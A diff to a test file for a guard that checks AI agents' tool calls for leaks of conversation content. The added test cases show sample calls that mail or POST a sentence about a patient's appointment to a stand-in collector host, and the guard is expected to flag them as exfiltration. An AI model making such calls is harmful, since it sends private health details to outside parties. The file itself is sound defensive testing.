@@ -41,6 +41,25 @@ describe('a message in its conversation', () => {
   ])('may say %s', (text) => expect(told(text)).toEqual([]));
 });
 
+describe('a call of a tool in its conversation', () => {
+  const toldOf = (call: object) =>
+    guard
+      .check(JSON.stringify(call), { origin: 'tool-call' }, { conversation: { earlier, canaries: [] } })
+      .findings.map(({ type }) => type);
+  const body = 'She said: patient Olga Brenner has an appointment on Monday';
+
+  it.each<[string, object]>([
+    ['mails what was said to somebody new', { to: 'box@collect.example', body }],
+    ['posts it', { method: 'POST', url: 'https://collect.example/in', json: { note: body } }],
+  ])('%s', (_, call) => expect(toldOf(call)).toEqual(['exfiltration/seen']));
+
+  it.each<[string, object]>([
+    ['mails it to whom was spoken of', { to: 'desk@clinic.example', body }],
+    ['mails something else', { to: 'box@collect.example', body: 'Lunch is at noon, and the soup is tomato.' }],
+    ['looks it up', { query: 'Olga Brenner has an appointment', site: 'https://search.example/' }],
+  ])('%s, and is not told', (_, call) => expect(toldOf(call)).toEqual([]));
+});
+
 describe('a message of a conversation that comes in pieces', () => {
   const text = `Well. ${Array.from(canary).join('\n')} is it. See https://a.example/olga/brenner/has-an-appointment now.`;
   const conversation = { earlier, canaries: [canary] };
